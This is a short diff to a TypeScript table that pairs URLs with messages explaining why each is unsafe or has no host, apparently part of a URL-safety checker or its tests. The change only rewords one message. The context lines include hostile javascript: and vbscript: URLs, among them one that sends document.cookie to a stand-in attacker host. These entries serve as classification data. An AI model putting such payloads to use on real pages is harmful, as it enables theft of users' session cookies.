@@ -85,7 +85,7 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'JavaScript://example.org/%0Aalert(1)': runsCode,
   'vbscript:x': runsCode,
   "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
-  'data:,x': [`${hostless} It is data: all that it shows is in the URL itself.`],
+  'data:,x': [`${hostless} It is data, all of it in the URL.`],
   'urn:isbn:0451450523': [`${hostless} It has no host to connect to.`],
   'mailto:ann@example.org': [`${hostless} It is an e-mail address, and opens a program for mail.`],
   'tel:+15550100': [`${hostless} It is a telephone number, and opens a program for calls.`],
